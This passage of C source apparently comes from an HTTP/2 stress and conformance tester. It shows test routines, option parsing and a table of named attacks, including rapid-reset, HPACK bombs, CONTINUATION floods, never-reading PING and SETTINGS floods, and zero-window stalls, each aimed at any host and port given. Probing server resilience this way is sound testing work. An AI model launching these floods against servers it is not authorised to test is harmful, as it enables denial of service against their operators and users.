            pfd[i] = (struct pollfd){.fd = rs[i].closed_ms < 0 && !rs[i].bad[0] ? cs[i]->fd : -1,
                                     .events = POLLIN};
        poll(pfd, (nfds_t)n, CHECK_EVERY_MS);
        open = 0;
        for (int i = 0; i < n; i++) {
            if (pfd[i].fd < 0)
                continue;
            if (pfd[i].revents)
                drain_now(&rs[i]);
            if (rs[i].closed_ms < 0 && !rs[i].bad[0])
                open++;
        }
    }
    /* Each connection's close, from when its requests went out. */
    int closed = 0, fin = 0, rst = 0, goaways = 0;
    int64_t first = -1, last = -1;
    uint32_t headers = 0;
    uint64_t data = 0;
    for (int i = 0; i < n; i++) {
        struct run *r = &rs[i];
        headers += r->t.answered;
        for (size_t k = 0; k < cs[i]->nstreams; k++) {
            headers += cs[i]->streams[k].status != 0;
            data += cs[i]->streams[k].body_len;
        }
        if (r->goaway)
            goaways++;
        if (r->closed_ms >= 0) {
            closed++;
            fin += !strcmp(r->closed, "fin");
            rst += !strcmp(r->closed, "rst");
            first = first < 0 || r->closed_ms < first ? r->closed_ms : first;
            last = r->closed_ms > last ? r->closed_ms : last;
        }
        printf("conn=%d conn_streams=%" PRIu64 " conn_goaway=%s%s conn_closed=%s conn_closed_ms=%" PRId64
               "\n",
               i, r->units, r->goaway ? error_name(r->goaway_code) : "none", r->bad[0] ? " bad=1" : "",
               r->closed_ms >= 0 ? r->closed : "timeout", r->closed_ms);
    }
    printf("conns=%d streams=%u headers=%u data_bytes=%" PRIu64 " goaways=%d\n", n, streams, headers, data,
           goaways);
    printf("closed_conns=%d closed_fin=%d closed_rst=%d first_close_ms=%" PRId64 " last_close_ms=%" PRId64
           "\n",
           closed, fin, rst, first, last);
    printf("elapsed_ms=%" PRId64 "\n", now_ms() - rs[0].t0);
    for (int i = 0; i < n; i++)
        run_free(&rs[i]);
}

/* 5b. A big response the client never reads: the largest windows, a small receive buffer. */
static void attack_noread_body(uint64_t count, int64_t end)
{
    struct h2c *c = conn_new();
    struct run r;
    struct far_end fe;
    (void)count;
    conn_start(c, opt.rcvbuf);
    handshake_v(c, 2, S_ENABLE_PUSH, 0u, S_INITIAL_WINDOW_SIZE, MAX_WINDOW);
    send_window_update(c, 0, MAX_WINDOW - DEFAULT_WINDOW); /* only TCP holds the server back */
    far_end_init(&fe, c->fd);
    far_end_state(&fe);
    run_init(&r, c);
    struct hblock get = {.len = 0};
    request_block(&get, "GET", "/bytes/50000000");
    send_block(c, 1, FLAG_END_STREAM, get.buf, get.len);
    r.units = 1;
    bool blocked = false;
    uint64_t blocked_bytes = 0;
    int64_t blocked_ms = 0;
    noread_flood(&r, &fe, NULL, 0, 0, end, &blocked, &blocked_bytes, &blocked_ms);
    printf("rcvbuf=%d\n", opt.rcvbuf);
    printf("server_end=%s\n", fe.seen ? "seen" : "unseen");
    noread_drain(&r);
    struct stream_rec *s = c->nstreams ? &c->streams[0] : NULL;
    printf("status=%d body_bytes=%" PRIu64 " body_ended=%d\n", s ? s->status : 0, s ? s->body_len : 0,
           s ? s->ended : 0);
    settle(&r);
    report_answers(&r);
    report_end(&r);
    run_free(&r);
}

/* 6. SETTINGS_MAX_CONCURRENT_STREAMS: --count GETs (15) in one write, once both SETTINGS are acknowledged. */
static void attack_concurrency(uint64_t count, int64_t end)
{
    struct h2c *c = conn_new();
    struct run r;
    struct batch *b = batch_new();
    (void)end;
    attack_start(&r, c);
    if (count > MAX_STREAMS / 2)
        count = MAX_STREAMS / 2;
    struct hblock get = {.len = 0};
    request_block(&get, "GET", opt.path);
    for (uint32_t i = 0; i < count; i++) {
        stream_get(c, 1 + 2 * i);
        batch_add(b, FT_HEADERS, FLAG_END_STREAM | FLAG_END_HEADERS, 1 + 2 * i, get.buf, get.len);
    }
    batch_send(&r, b);
    r.units = count;
    int64_t deadline = now_ms() + opt.timeout_ms;
    while (r.t.answered + r.t.rst < count && !conn_gone(&r)) {
        settle(&r);
        if (r.t.answered + r.t.rst >= count || now_ms() >= deadline || next(&r, deadline) != EV_FRAME)
            break;
    }
    settle(&r);
    /* Which streams were answered: the first max_concurrent ones, if the server kept to its word. */
    uint32_t highest = 0;
    for (size_t i = 0; i < r.t.nanswered_ids; i++)
        highest = r.t.answered_ids[i] > highest ? r.t.answered_ids[i] : highest;
    uint64_t resolved = (uint64_t)r.t.answered + r.t.rst;
    printf("max_concurrent=%s%u opened=%" PRIu64 " unresolved=%" PRIu64 " highest_answered=%u\n",
           c->has_max_concurrent ? "" : "unsaid:", c->max_concurrent, count,
           resolved < count ? count - resolved : 0, highest);
    printf("alive=%d\n", alive(&r));
    report_answers(&r);
    report_end(&r);
    free(b);
    run_free(&r);
}

/* 7. Request trailers: x-checksum after the body is served; a pseudo-header in trailers is refused. */
static void attack_trailers(uint64_t count, int64_t end)
{
    struct h2c *c = conn_new();
    struct run r;
    static const char body[] = "a body with trailers after it";
    (void)count;
    (void)end;
    attack_start(&r, c);

    struct hblock post = {.len = 0}, trailers = {.len = 0}, bad = {.len = 0};
    request_block(&post, "POST", "/echo");
    hb_field(&trailers, "x-checksum", "abc");
    hb_field(&bad, ":path", "/echo");
    hb_field(&bad, "x-checksum", "abc");

    send_headers(c, 1, FLAG_END_HEADERS, &post);
    send_data(c, 1, false, body, sizeof(body) - 1);
    send_headers(c, 1, FLAG_END_STREAM | FLAG_END_HEADERS, &trailers);
    int64_t deadline = now_ms() + opt.timeout_ms;
    struct stream_rec *s = stream_get(c, 1);
    while (!(s->status && s->ended) && s->rst_code < 0 && now_ms() < deadline &&
           next(&r, deadline) == EV_FRAME)
        ;
    bool echo = s->status == 200 && s->ended && s->body_len == sizeof(body) - 1 && s->body &&
                !memcmp(s->body, body, sizeof(body) - 1);
    printf("trailers_status=%d trailers_rst=%d trailers_echo=%d\n", s->status, s->rst_code, echo);
    settle(&r);

    send_headers(c, 3, FLAG_END_HEADERS, &post);
    send_data(c, 3, false, body, sizeof(body) - 1);
    send_headers(c, 3, FLAG_END_STREAM | FLAG_END_HEADERS, &bad);
    char outcome[64];
    printf("pseudo_trailers=%s\n", stream_outcome(&r, 3, outcome, sizeof(outcome)));
    report_end(&r);
    run_free(&r);
}

static const struct attack attacks[] = {
    {"hpack-bomb", attack_hpack_bomb, 1000, 3000,
     "a 4000-byte field indexed, then requests of 1-byte references to it up to the header list size"},
    {"rapid-reset", attack_rapid_reset, 2000, 5000, "HEADERS + RST_STREAM(CANCEL) pairs on one connection"},
    {"continuation", attack_continuation, 100000, 3000,
     "HEADERS without END_HEADERS, then CONTINUATION frames (every 4th empty) without end"},
    {"ping-noread", attack_ping_noread, 100000000, 5000, "PING frames from a client that never reads"},
    {"settings-noread", attack_settings_noread, 100000000, 5000,
     "SETTINGS frames from a client that never reads"},
    {"mixed-noread", attack_mixed_noread, 100000000, 5000,
     "PING and SETTINGS from a client that never reads"},
    {"priority", attack_priority, 100000, 3000, "PRIORITY frames on 100 idle streams, round and round"},
    {"window-update", attack_window_update, 100000, 3000, "WINDOW_UPDATE(1) on stream 0, nothing asked"},
    {"empty-data", attack_empty_data, 100000, 3000, "empty DATA without END_STREAM on an open POST"},
    {"empty-headers", attack_empty_headers, 100000, 3000,
     "an empty HEADERS without END_HEADERS, then empty CONTINUATION frames"},
    {"zero-window", attack_zero_window, 0, 6000,
     "--conns connections, each with max_concurrent_streams GETs of /bytes/100000 on a zero window"},
    {"noread-body", attack_noread_body, 0, 6000, "GET /bytes/50000000 with open windows, never read"},
    {"concurrency", attack_concurrency, 15, 0, "--count GETs in one write after the SETTINGS exchange"},
    {"trailers", attack_trailers, 0, 0, "POST /echo with trailers; then trailers with a pseudo-header"},
};

#define NATTACKS (sizeof(attacks) / sizeof(attacks[0]))

static void usage(FILE *f)
{
    fprintf(f, "usage: " PROG " --host ADDR --port PORT --attack NAME [--count N] [--duration SEC]\n"
               "       [--timeout SEC] [--conns N] [--rcvbuf BYTES] [--path /healthz] [--list-size BYTES]\n"
               "       [--verbose] | --list\n");
}

static void parse_options(int argc, char **argv)
{
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        const char *v = i + 1 < argc ? argv[i + 1] : NULL;
        bool takes_value = true;
        if (strcmp(a, "--host") == 0 && v)
            opt.host = v;
        else if (strcmp(a, "--port") == 0 && v)
            opt.port = v;
        else if (strcmp(a, "--attack") == 0 && v)
            opt.attack = v;
        else if (strcmp(a, "--count") == 0 && v && strtoull(v, NULL, 10) > 0)
            opt.count = strtoull(v, NULL, 10);
        else if (strcmp(a, "--duration") == 0 && v && atof(v) > 0 && atof(v) <= 600)
            opt.duration_ms = (int)(atof(v) * 1000);
        else if (strcmp(a, "--timeout") == 0 && v && atof(v) > 0 && atof(v) <= 600)
            opt.timeout_ms = (int)(atof(v) * 1000);
        else if (strcmp(a, "--conns") == 0 && v && atoi(v) > 0 && atoi(v) <= MAX_CONNS)
            opt.conns = atoi(v);
        else if (strcmp(a, "--rcvbuf") == 0 && v && atoi(v) > 0)
            opt.rcvbuf = atoi(v);
        else if (strcmp(a, "--path") == 0 && v)
            opt.path = v;
        else if (strcmp(a, "--list-size") == 0 && v && atoi(v) > 0)
            opt.list_size = (uint32_t)atoi(v);
        else {
            takes_value = false;
            if (strcmp(a, "--list") == 0)
                opt.list = true;
            else if (strcmp(a, "--verbose") == 0 || strcmp(a, "-v") == 0)
                opt.verbose = true;
            else if (strcmp(a, "--help") == 0 || strcmp(a, "-h") == 0) {
                usage(stdout);
                exit(0);
            } else {
                fprintf(stderr, PROG ": bad option or missing value: %s\n", a);
                usage(stderr);
                exit(2);
            }
        }
        if (takes_value)
            i++;
    }
}

int main(int argc, char **argv)
{
    parse_options(argc, argv);
    if (opt.list) {
        for (size_t i = 0; i < NATTACKS; i++)
            printf("%-16s %s\n", attacks[i].name, attacks[i].what);
        return 0;
    }
    const struct attack *a = NULL;
    for (size_t i = 0; i < NATTACKS && opt.attack; i++)
        if (strcmp(opt.attack, attacks[i].name) == 0)
            a = &attacks[i];
    if (!opt.port || !a) {
        fprintf(stderr, PROG ": %s\n",
                !opt.port ? "--port is required" : "--attack names no attack (see --list)");
        usage(stderr);
        return 2;
    }
    signal(SIGPIPE, SIG_IGN);
    static char authority[300];
    snprintf(authority, sizeof(authority), strchr(opt.host, ':') ? "[%s]:%s" : "%s:%s", opt.host, opt.port);
    h2_wire.prog = PROG;
    h2_wire.timeout_ms = opt.timeout_ms;
    h2_wire.verbose = opt.verbose;
    h2_wire.authority = authority;

    uint64_t count = opt.count ? opt.count : a->count;
    int duration = opt.duration_ms ? opt.duration_ms : a->duration_ms;
    printf("attack=%s count=%" PRIu64 " duration_ms=%d\n", a->name, count, duration);
    fflush(stdout);
    a->run(count, now_ms() + duration);
    fflush(stdout);
    return 0;
}
